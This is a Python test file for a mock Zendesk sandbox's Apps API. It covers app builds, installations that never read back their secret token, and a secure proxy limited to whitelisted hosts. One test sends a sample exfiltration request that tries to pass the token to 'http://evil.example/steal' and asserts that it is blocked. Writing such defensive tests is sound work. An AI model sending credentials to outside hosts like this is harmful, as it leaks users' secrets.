"""The sandbox's Apps API: an upload built into an app by a job (refused with reasons when Zendesk would refuse
it), installations whose secure settings are never read back, and the secure-request proxy that fills them in
for whitelisted hosts only."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable

import requests
from support.servers import serve
from werkzeug.wrappers import Request, Response

from adapters.zendesk.app_build import app_files, app_zip, fill
from adapters.zendesk.sandbox import ZendeskSandbox

AUTH = ("admin@sandbox.example.com/token", "sandbox-api-token")


def build(sandbox: ZendeskSandbox, archive: bytes, app_id: int | None = None) -> dict:
    upload = requests.post(f"{sandbox.base_url}/api/v2/apps/uploads.json", auth=AUTH, timeout=5,
                           files={"uploaded_data": ("app.zip", archive, "application/zip")})
    assert upload.status_code == 201, upload.text
    body = {"name": "License Exception Connector", "short_description": "x", "upload_id": upload.json()["id"]}
    started = (requests.put(f"{sandbox.base_url}/api/v2/apps/{app_id}.json", json=body, auth=AUTH, timeout=5)
               if app_id else requests.post(f"{sandbox.base_url}/api/v2/apps.json", json=body, auth=AUTH, timeout=5))
    assert started.status_code == 202, started.text
    polls = []
    while not polls or polls[-1]["status"] in ("queued", "working"):
        assert len(polls) < 5, polls
        polls.append(requests.get(f"{sandbox.base_url}/api/v2/apps/job_statuses/{started.json()['job_id']}.json",
                                  auth=AUTH, timeout=5).json())
    assert [p["status"] for p in polls[:-1]] == ["working"] * sandbox.apps.polls_before_complete
    return polls[-1]


def test_an_app_is_built_installed_and_its_secret_never_read_back(make_sandbox: Callable[..., ZendeskSandbox]):
    sandbox = make_sandbox(tickets=0)
    job = build(sandbox, app_zip(fill(app_files(), "http://127.0.0.1:9")))
    assert job["status"] == "completed", job
    settings = {"name": "License Exception Connector", "connector_url": "http://127.0.0.1:9",
                "connection": "zd", "token": "lec_secret"}
    installed = requests.post(f"{sandbox.base_url}/api/v2/apps/installations.json", auth=AUTH, timeout=5,
                              json={"app_id": job["app_id"], "settings": settings})
    assert installed.status_code == 201, installed.text
    assert "token" not in installed.json()["settings"]
    listed = requests.get(f"{sandbox.base_url}/api/v2/apps/installations.json", auth=AUTH, timeout=5).json()
    assert [i["settings"].get("connection") for i in listed["installations"]] == ["zd"]
    assert "lec_secret" not in json.dumps(listed)
    untitled = requests.post(f"{sandbox.base_url}/api/v2/apps/installations.json", auth=AUTH, timeout=5,
                             json={"app_id": job["app_id"], "settings": {**settings, "name": ""}})
    assert untitled.status_code == 422 and "settings.name" in untitled.text
    again = build(sandbox, app_zip(fill(app_files(), "http://127.0.0.1:9")), app_id=job["app_id"])
    assert again["status"] == "completed" and again["app_id"] == job["app_id"]


def test_a_broken_upload_fails_its_job_with_the_reasons(make_sandbox: Callable[..., ZendeskSandbox]):
    sandbox = make_sandbox(tickets=0)
    files = fill(app_files(), "http://127.0.0.1:9")
    files.pop("assets/main.js")
    manifest = json.loads(files["manifest.json"])
    manifest["location"]["support"].pop("new_ticket_sidebar")
    files["manifest.json"] = json.dumps(manifest).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    job = build(sandbox, buffer.getvalue())
    assert job["status"] == "failed"
    assert "location support.new_ticket_sidebar is missing" in job["errors"]
    assert "assets/iframe.html references main.js, which is not in the app" in job["errors"]
    assert build(sandbox, b"not a zip")["errors"] == ["The upload is not a zip file"]


def test_the_secure_proxy_fills_the_secret_for_whitelisted_hosts_only(make_sandbox: Callable[..., ZendeskSandbox]):
    seen: list[str] = []

    def connector(environ, start_response):  # type: ignore[no-untyped-def]
        seen.append(Request(environ).headers.get("Authorization", ""))
        return Response(json.dumps({"flagged": False}), content_type="application/json")(environ, start_response)

    sandbox = make_sandbox(tickets=0)
    with serve(connector) as url:
        job = build(sandbox, app_zip(fill(app_files(), url)))
        installation = requests.post(f"{sandbox.base_url}/api/v2/apps/installations.json", auth=AUTH, timeout=5,
                                     json={"app_id": job["app_id"], "settings": {
                                         "name": "License Exception Connector", "connector_url": url,
                                         "connection": "zd", "token": "lec_secret"}}).json()
        proxied = requests.post(f"{sandbox.base_url}/proxy/apps/secure", timeout=5, json={
            "installation_id": installation["id"], "url": f"{url}/api/v1/sources/zendesk/zd/tickets/1/status",
            "type": "GET", "headers": {"Authorization": "Bearer {{setting.token}}"}})
        assert proxied.status_code == 200 and proxied.json() == {"status": 200, "body": {"flagged": False}}
        assert seen == ["Bearer lec_secret"]
        elsewhere = requests.post(f"{sandbox.base_url}/proxy/apps/secure", timeout=5, json={
            "installation_id": installation["id"], "url": "http://evil.example/steal",
            "headers": {"Authorization": "Bearer {{setting.token}}"}})
        assert elsewhere.status_code == 403 and seen == ["Bearer lec_secret"]
    assert sandbox.apps.proxied[0]["headers"] == {"Authorization": "***"}
